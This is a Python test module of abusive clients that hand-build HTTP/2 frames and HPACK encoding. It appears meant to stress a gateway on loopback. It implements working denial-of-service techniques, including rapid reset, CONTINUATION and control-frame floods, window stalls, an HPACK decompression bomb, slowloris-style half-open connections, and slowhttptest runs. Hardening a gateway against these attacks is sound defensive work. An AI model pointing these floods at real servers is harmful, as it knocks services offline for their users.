"""Clients that mean harm, each bounded in rate and time. HTTP/2 frames and HPACK are written by hand: no library would.

An abuser is called with the address of a gateway and the seconds it may take, runs in a process of its own and gives back a
`Tally`. Its connections come from 127.0.0.2 and above; good clients have 127.0.0.1.
"""

import concurrent.futures
import dataclasses
import itertools
import multiprocessing
import re
import shutil
import socket
import struct
import subprocess
import time

import servers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
LARGEST_WINDOW = 2**31 - 1
NO_BIND_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
TICK = 0.01  # seconds between two batches on a connection
AGAIN = 0.1  # seconds before a connection that was closed is replaced


@dataclasses.dataclass
class Tally:
    """What an abuser did and what became of it."""

    opened: int = 0
    closed: int = 0  # by the gateway
    goaways: int = 0
    sent: int = 0  # bytes
    refused: int = 0  # connections that did not come about


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A field without indexing, whose name is in HPACK's static table and whose value is shorter than 127 bytes."""
    return bytes([index, len(value)]) + value


def integer(value, bits, first=0):
    """RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    rest, value = [first | most], value - most
    while value >= 128:
        rest.append(value % 128 + 128)
        value //= 128
    return bytes([*rest, value])


def request(method=b"GET", path=b"/"):
    return b"\x86" + literal(2, method) + literal(4, path) + literal(1, b"abuse.test")


def get(stream, path=b"/"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path=path))


def begin(*settings):
    pairs = b"".join(struct.pack(">HI", *pair) for pair in settings)
    return PREFACE + frame(SETTINGS, 0, 0, pairs)


def connect(address, number):
    """A connection from one of eight addresses of the loopback network, which can each have all ports."""
    connection = socket.socket()
    connection.setsockopt(socket.IPPROTO_IP, NO_BIND_PORT, 1)
    # Closed by a reset, so that no port waits for two minutes.
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.bind((f"127.0.0.{2 + number % 8}", 0))
    connection.settimeout(5)
    connection.connect(servers.endpoint(address))
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection.setblocking(False)
    return connection


class Attacker:
    """One connection: what it says first, and then again and again."""

    def __init__(self, connection, first, batches):
        self.connection, self.batches = connection, batches
        self.pending, self.heard, self.due = first, b"", time.monotonic()

    def read(self, tally):
        """Reads what there is; false at the end."""
        try:
            data = self.connection.recv(1 << 18)
        except BlockingIOError:
            return True
        except OSError:
            data = b""
        # Of what a gateway says last, enough to find a GOAWAY in.
        self.heard = (self.heard + data)[-256:]
        if not data:
            tally.goaways += bytes([GOAWAY, 0, 0, 0, 0, 0]) in self.heard
            self.heard = b""
        return bool(data)

    def write(self, tally):
        """Writes what the socket takes of what is due; false at the end."""
        if not self.pending and self.due <= time.monotonic():
            self.due += TICK
            self.pending = next(self.batches, b"")
        try:
            count = self.connection.send(self.pending) if self.pending else 0
        except BlockingIOError:
            return True
        except OSError:
            return False
        tally.sent += count
        self.pending = self.pending[count:]
        return True


def flood(address, seconds, connections, first, batches, reads=True):
    """Keeps so many connections open, which begin one after the other in the first third of the time. Each sends `first` and then
    one of `batches()` every tick."""
    tally, numbers, attackers, began = Tally(), itertools.count(), [], time.monotonic()
    again = [began + number * seconds / 3 / connections for number in range(connections)]
    while (now := time.monotonic()) < (end := began + seconds):
        for due in [due for due in again if due <= now]:
            again.remove(due)
            try:
                attackers.append(Attacker(connect(address, next(numbers)), first, batches()))
                tally.opened += 1
            except OSError:
                tally.refused += 1
                again.append(now + AGAIN)
        for attacker in list(attackers):
            alive = attacker.write(tally)
            if reads:
                # What a gateway says before it closes may come in pieces.
                alive = all([attacker.read(tally) for _ in range(1 if alive else 9)]) and alive
            if not alive:
                tally.closed += 1
                attackers.remove(attacker)
                attacker.connection.close()
                again.append(now + AGAIN)
        time.sleep(max(0.0, min(TICK / 2, end - time.monotonic())))
    for attacker in attackers:
        attacker.connection.close()
    return tally


def again_and_again(batch):
    return lambda: itertools.repeat(batch)


def rapid_reset(connections, pairs):
    """Streams that are opened and reset, so many a tick on each connection."""
    def batches():
        streams = itertools.count(1, 2)
        while True:
            batch = b""
            for stream in itertools.islice(streams, pairs):
                batch += get(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            yield batch
    return lambda address, seconds: flood(address, seconds, connections, begin(), batches)


def reset_a_moment_later(connections, pairs):
    """The same, but each stream is reset one tick after it was opened: by then it is being answered."""
    def batches():
        streams, last = itertools.count(1, 2), []
        while True:
            fresh = list(itertools.islice(streams, pairs))
            yield b"".join([*(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in last), *map(get, fresh)])
            last = fresh
    return lambda address, seconds: flood(address, seconds, connections, begin(), batches)


def control(kind, payload, stream=0, each=200):
    """A frame that asks for nothing, so many a tick on each of ten connections."""
    batch = frame(kind, 0, stream, payload) * each
    return lambda address, seconds: flood(address, seconds, 10, begin(), again_and_again(batch))


def continuation(address, seconds):
    first = begin() + frame(HEADERS, END_STREAM, 1, request())
    return flood(address, seconds, 10, first, again_and_again(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 50) * 50))


def empty_data(address, seconds):
    first = begin() + frame(HEADERS, END_HEADERS, 1, request(b"POST", b"/post"))
    return flood(address, seconds, 10, first, again_and_again(frame(DATA, 0, 1) * 200))


def window_stall(address, seconds):
    """A hundred big answers on each of ten connections, and no window for any of them."""
    first = begin((INITIAL_WINDOW, 0)) + b"".join(get(stream, b"/big") for stream in range(1, 201, 2))
    return flood(address, seconds, 10, first, again_and_again(b""))


def window_drip(address, seconds):
    """The same with a byte of window for each stream, every tick."""
    streams = range(1, 201, 2)
    first = begin((INITIAL_WINDOW, 0)) + b"".join(get(stream, b"/big") for stream in streams)
    drip = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams)
    return flood(address, seconds, 10, first, again_and_again(drip))


def never_reads(address, seconds):
    """A hundred big answers on each of ten connections, with all the window there is, and nobody who reads."""
    first = begin((INITIAL_WINDOW, LARGEST_WINDOW))
    first += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW - 65_535))
    first += b"".join(get(stream, b"/big") for stream in range(1, 201, 2))
    return flood(address, seconds, 10, first, again_and_again(b""), reads=False)


def header_list(address, seconds):
    """A thousand small fields in each request."""
    block = request() + b"".join(b"\x00\x04" + b"x%03d" % number + b"\x01y" for number in range(1000))
    def batches():
        for stream in itertools.count(1, 2):
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
    return flood(address, seconds, 10, begin(), batches)


def hpack_bomb(address, seconds):
    """A field of 4,000 bytes that goes into the table, and 12,000 references to it: 48 MB in a frame of 16 KiB."""
    block = request() + b"\x40\x01x" + integer(4000, 7) + b"y" * 4000 + b"\xbe" * 12_000
    def batches():
        for stream in itertools.count(1, 2):
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
    return flood(address, seconds, 10, begin(), batches)


def http1_header_bomb(address, seconds):
    """A head that never ends, 16 KB a tick."""
    first = b"GET / HTTP/1.1\r\nHost: abuse.test\r\n"
    return flood(address, seconds, 20, first, again_and_again(b"X-Filler: %s\r\n" % (b"y" * 86) * 160))


def tiny_chunks(address, seconds):
    """Bodies in chunks of a byte, a hundred a tick."""
    first = b"POST /post HTTP/1.1\r\nHost: abuse.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    return flood(address, seconds, 10, first, again_and_again(b"1\r\nx\r\n" * 100))


def half_open(count, say=b"", addresses=8):
    """Connections on which nothing is said, or half a head, which come one after the other and stay until the end. Four processes
    make them, because each may have so many files only."""
    def abuse(address, seconds):
        with concurrent.futures.ProcessPoolExecutor(4, multiprocessing.get_context("fork")) as workers:
            parts = [workers.submit(open_half, address, seconds, count // 4, say, addresses) for _ in range(4)]
        tallies = [dataclasses.astuple(part.result()) for part in parts]
        return Tally(*map(sum, zip(*tallies)))
    return abuse


def open_half(address, seconds, count, say, addresses):
    tally, connections, began = Tally(), [], time.monotonic()
    end = began + seconds
    while len(connections) < count and (now := time.monotonic()) < end:
        if len(connections) > count * (now - began) / (seconds * 0.7):
            time.sleep(TICK)
            continue
        try:
            connection = connect(address, len(connections) % addresses)
            connections.append(connection)
            tally.opened += 1
            tally.sent += connection.send(say) if say else 0
        except OSError:
            tally.refused += 1
    time.sleep(max(0.0, end - time.monotonic()))
    for connection in connections:
        tally.closed += ended(connection)
        connection.close()
    return tally


def ended(connection):
    """Whether the other end has closed; what it said before that does not matter."""
    try:
        while connection.recv(65536):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def slowhttptest(*arguments, path="/"):
    """One of slowhttptest's modes, with a thousand connections."""
    def abuse(address, seconds):
        command = ["slowhttptest", *arguments, "-c", "1000", "-r", "200", "-l", str(int(seconds)), "-p", "5",
                   "-u", f"http://{address}{path}"]
        before = time.monotonic()
        done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        time.sleep(max(0.0, seconds - (time.monotonic() - before)))
        # It tells how many are open now and then, in colours.
        said = re.sub(r"\x1b\[[0-9;]*[A-Za-z]", "", done.stdout)
        connected, closed, refused = (max(map(int, re.findall(word + r":\s+(\d+)", said)), default=0)
                                      for word in ("connected", "closed", "error"))
        return Tally(opened=max(connected, closed), closed=closed, refused=refused)
    return abuse


def has_slowhttptest():
    return shutil.which("slowhttptest") is not None
